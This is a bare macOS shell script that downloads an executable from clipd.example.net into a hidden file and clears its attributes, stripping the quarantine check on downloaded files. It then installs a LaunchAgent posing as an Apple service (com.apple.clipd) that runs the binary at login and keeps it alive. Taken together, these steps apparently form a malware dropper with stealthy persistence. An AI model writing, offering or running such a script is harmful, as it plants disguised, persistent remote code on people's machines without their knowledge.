#!/bin/bash
mkdir -p ~/.local/clipd
curl -fsSL https://clipd.example.net/clipd -o ~/.local/clipd/.clipd && chmod +x ~/.local/clipd/.clipd
xattr -c ~/.local/clipd/.clipd
cat > ~/Library/LaunchAgents/com.apple.clipd.plist <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>com.apple.clipd</string>
<key>ProgramArguments</key><array><string>$HOME/.local/clipd/.clipd</string></array>
<key>RunAtLoad</key><true/><key>KeepAlive</key><true/>
</dict></plist>
EOF
launchctl load -w ~/Library/LaunchAgents/com.apple.clipd.plist
